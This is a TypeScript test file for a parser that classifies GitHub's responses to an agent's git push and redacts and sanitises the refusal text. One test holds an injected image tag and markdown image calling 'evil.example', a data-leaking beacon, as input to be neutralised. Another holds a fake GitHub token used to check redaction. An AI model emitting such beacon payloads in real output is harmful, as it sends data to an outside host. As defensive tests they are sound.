/** Git's output, read for what GitHub said of a push to the run's branch. */
import { expect, test } from "vitest";
import { advance, noProgress } from "../../src/domain/progress.ts";
import { pushResult, refusedWords } from "../../src/domain/push-result.ts";

const to = "To https://github.com/acme/shop\n";
const refused = (why: string, ...remote: string[]) =>
  `${remote.map((line) => `remote: ${line}\n`).join("")}${to} ! [remote rejected] HEAD -> claude/s1 (${why})\nerror: failed to push some refs\n`;

const outputs: [what: string, output: string, code: string | undefined][] = [
  ["a first push", `${to} * [new branch]      HEAD -> claude/s1\n`, "pushed"],
  ["a later push", `${to}   1a2b3c4..5d6e7f8  HEAD -> claude/s1\n`, "pushed"],
  ["a forced push", `${to} + 1a2b3c4...5d6e7f8 HEAD -> claude/s1 (forced update)\n`, "pushed"],
  ["a push elsewhere", `${to}   1a2b3c4..5d6e7f8  HEAD -> main\n`, undefined],
  ["no push", "total 4\n-rw-r--r-- 1 claude/s1\n", undefined],
  [
    "workflow files",
    refused(
      "refusing to allow a GitHub App to create or update workflow `.github/workflows/ci.yml` without `workflows` permission",
    ),
    "workflows",
  ],
  [
    "signed commits",
    refused(
      "push declined due to repository rule violations",
      "error: GH013: Repository rule violations found for refs/heads/claude/s1.",
      "- Commits must have verified signatures.",
    ),
    "ruleset",
  ],
  [
    "a ruleset that names workflows",
    refused(
      "push declined due to repository rule violations",
      "error: GH013: Repository rule violations found for refs/heads/claude/s1.",
      "- File path is restricted: .github/workflows/ci.yml without `workflows` permission",
    ),
    "ruleset",
  ],
  [
    "a protected branch",
    refused("protected branch hook declined", "error: GH006: Protected branch update failed."),
    "protected",
  ],
  [
    "push protection",
    refused(
      "push declined due to repository rule violations",
      "error: GH013: Repository rule violations found for refs/heads/claude/s1.",
      "- Push cannot contain secrets",
      "https://github.com/acme/shop/security/secret-scanning/unblock-secret/abc",
    ),
    "secrets",
  ],
  ["large files", refused("pre-receive hook declined", "error: GH001: Large files detected."), "large files"],
];

test.each(outputs)("%s", (_what, output, code) => {
  const result = pushResult(output);
  expect(result?.kind === "refused" ? result.code : result?.kind).toBe(code);
});

test("its words hold no secret and no address, and are short", () => {
  const token = `ghp_${"aB3dE6gH9jK2mN5pQ8sT1vW4yZ7cF0hJ3lN6"}`;
  const result = pushResult(
    refused("no", `found ${token}`, "see https://github.com/unblock", "x".repeat(5_000)),
  );
  expect(result?.kind === "refused" ? result.words : "").toMatch(/^no · found \[/);
  expect(JSON.stringify(result)).not.toMatch(/ghp_|https/);
  expect(JSON.stringify(result).length).toBeLessThan(700);
});

test("words that an agent made up neither load nor notify", () => {
  const result = pushResult(
    refused("`a` <img src=https://evil.example/?d> ![x](https://evil.example/y", "@acme/all"),
  );
  const words = result?.kind === "refused" ? refusedWords(result) : "";
  expect(words).toContain("<img src=");
  expect(words.replace(/`[^`]*`/, "")).toBe(
    "GitHub refused the push, also after the agent was told: . See the repository's rules for pushes.",
  );
});

test("a refusal stands until a push is taken, be it a quiet one", () => {
  const refusal = { kind: "refused", code: "ruleset", words: "no" } as const;
  const at = "2026-01-01T00:00:00Z";
  const after = advance(noProgress, [
    { id: "1", at, kind: "worked", tool: "bash", pushes: true },
    { id: "2", at, kind: "ran", use: "1", ok: false, result: refusal },
    { id: "3", at, kind: "ran", use: "0", ok: true },
  ]);
  expect(after.refusal).toEqual(refusal);
  const quiet = advance(after, [
    { id: "4", at, kind: "worked", tool: "bash", pushes: true },
    { id: "5", at, kind: "ran", use: "4", ok: true },
  ]);
  expect(quiet.refusal).toBeUndefined();
});
